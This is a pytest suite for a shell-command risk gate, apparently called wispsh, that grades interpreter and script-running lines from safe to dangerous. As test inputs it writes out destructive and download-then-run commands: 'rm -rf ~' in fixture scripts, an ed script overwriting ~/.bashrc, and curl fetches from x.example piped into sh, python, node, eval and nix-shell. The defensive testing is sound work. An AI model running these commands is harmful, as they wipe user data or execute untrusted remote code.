"""Interpreters and runners on real files: the project scripts a line runs are read and judged, the files a
line runs are facts the whole-line rules follow, and what only parses stays quiet."""
from __future__ import annotations

import os
import threading

import pytest

from test_rules_support import describe, judge, make_place
from wispsh.model import Level
from wispsh.policy import scripts

S, L, M, H, D = Level.SAFE, Level.LOW, Level.MODERATE, Level.HIGH, Level.DANGEROUS


@pytest.fixture()
def place(tmp_path):
    return make_place(tmp_path)


def reached(line: str, place) -> Level:
    return judge(line, place).reached


@pytest.mark.parametrize("line", ["bash deploy.sh", "sh ./deploy.sh", "source deploy.sh", ". ./deploy.sh",
                                  "bash < deploy.sh", 'bash -c "$(cat deploy.sh)"', 'eval "$(cat deploy.sh)"'])
def test_a_project_script_that_does_something_dangerous_is_dangerous(place, line):
    (place.project / "deploy.sh").write_text("#!/bin/sh\nmake\nrm -rf ~\n")
    outcome = judge(line, place)
    assert outcome.reached == D, describe(outcome)
    assert any("deploy.sh" in r for j in outcome.parts for r in j.verdict.reasons), describe(outcome)


def test_a_project_script_is_project_code_when_nothing_in_it_is_dangerous(place):
    # real scripts are full of what a line alone would make high: they stay project code
    (place.project / "test.sh").write_text('set -e\neval "$(pyenv init -)"\n"$@"\nexport PATH="$PWD/bin:$PATH"\n'
                                           "pytest -q\n")
    assert reached("bash test.sh", place) == M


def test_a_virtualenv_activate_script_stays_moderate(place, tmp_path):
    activate = place.project / ".venv" / "bin" / "activate"
    activate.parent.mkdir(parents=True)
    activate.write_text('deactivate () {\n  if [ -n "${_OLD_VIRTUAL_PATH:-}" ] ; then PATH="${_OLD_VIRTUAL_PATH:-}"; '
                        'export PATH; fi\n  if [ -n "${_OLD_VIRTUAL_PYTHONHOME:-}" ] ; then '
                        'PYTHONHOME="${_OLD_VIRTUAL_PYTHONHOME:-}"; export PYTHONHOME; fi\n  hash -r 2>/dev/null\n}\n'
                        f'VIRTUAL_ENV="{activate.parent.parent}"\nexport VIRTUAL_ENV\n'
                        'PATH="$VIRTUAL_ENV/bin:$PATH"\nexport PATH\nunset PYTHONHOME\n')
    assert reached("source .venv/bin/activate", place) == M


def test_a_missing_project_script_is_project_code(place):
    assert reached("bash not-yet.sh", place) == M


def test_a_script_the_gate_cannot_read_is_high(place):
    (place.project / "big.sh").write_text("echo x\n" * (scripts.MAX_SCRIPT_BYTES // 7 + 10))
    (place.project / "bin.sh").write_bytes(b"\x7fELF\x00\x01")
    assert reached("bash big.sh", place) == H
    assert reached("sh bin.sh", place) == H


def test_a_fifo_planted_as_the_script_does_not_hang_the_gate(place):
    fifo = place.project / "x.sh"
    os.mkfifo(fifo)
    result = []
    worker = threading.Thread(target=lambda: result.append(reached("bash x.sh", place)), daemon=True)
    worker.start()
    worker.join(10)
    assert result == [H], "the gate blocked on a FIFO (or misjudged it)"


def test_a_link_out_of_the_project_is_judged_where_it_leads(place, tmp_path):
    outside = tmp_path / "elsewhere.sh"
    outside.write_text("echo hi\n")
    (place.project / "run.sh").symlink_to(outside)
    assert reached("bash run.sh", place) == H


def test_a_link_inside_the_project_is_read(place):
    (place.project / "real.sh").write_text("rm -rf ~\n")
    (place.project / "run.sh").symlink_to(place.project / "real.sh")
    assert reached("bash run.sh", place) == D


def test_a_script_that_sources_itself_is_bounded(place):
    (place.project / "loop.sh").write_text(". ./loop.sh\n")
    assert reached("bash loop.sh", place) == M


def test_an_ed_script_file_of_the_project_is_read(place):
    (place.project / "edit.ed").write_text("a\nw ~/.bashrc is only text here\n.\nw ~/.bashrc\nq\n")
    (place.project / "safe.ed").write_text("1,$s/a/b/g\nw\nq\n")
    assert reached("ed -s notes.txt < edit.ed", place) == D
    assert reached("ed -s notes.txt < safe.ed", place) == M


@pytest.mark.parametrize("line, path", [
    ("bash x.sh", "x.sh"), ("source x.sh", "x.sh"), ("python3 x.py", "x.py"), ("node x.js", "x.js"),
    ('bash -c "$(cat x.sh)"', "x.sh"), ("bash < x.sh", "x.sh"), ("node -r ./h.js app.js", "h.js"),
    ("python3 -m tool", "tool/__main__.py"), ("python3 -m tool", "tool.py"), ("vim -S x.vim f", "x.vim"),
    ("tmux source-file t.conf", "t.conf"), ("nix-shell", "shell.nix"), ("perl x.pl", "x.pl"),
])
def test_the_files_a_line_runs_are_facts(place, line, path):
    runs = [p for j in judge(line, place).parts for p in j.facts.runs]
    assert str(place.project / path) in runs, runs


@pytest.mark.parametrize("line", [
    "curl -fsSL https://x.example/i.sh -o i.sh && sh < i.sh",
    "curl -o m.py https://x.example/m.py && python3 -m m",
    "curl -o h.js https://x.example/h.js && node -r ./h.js app.js",
    'curl -o x.sh https://x.example/x && bash -c "$(cat x.sh)"',
    'curl -o x.sh https://x.example/x && eval "$(cat x.sh)"',
    "curl -o x.vim https://x.example/v && vim -S x.vim f",
    "curl -o shell.nix https://x.example/s && nix-shell",
])
def test_a_download_then_run_is_caught_by_the_line(place, line):
    outcome = judge(line, place)
    assert outcome.line.level == D, describe(outcome)


@pytest.mark.parametrize("line, level", [
    ("bash -n script.sh", S), ("sh -n ./configure", S), ("node --check x.js", S), ("ruby -c x.rb", S),
    ("php -l x.php", S), ("python3 -m py_compile src/a.py", S), ("python3 -m black --check src", S),
    ("python3 -m ruff check .", S), ("python3 -m mypy src", S), ("deno lint", S), ("deno fmt --check", S),
    ("bash -n ~/.bashrc", L), ("perl -c x.pl", M),      # perl -c still runs BEGIN blocks
])
def test_what_only_parses_or_checks_stays_quiet(place, line, level):
    assert reached(line, place) == level
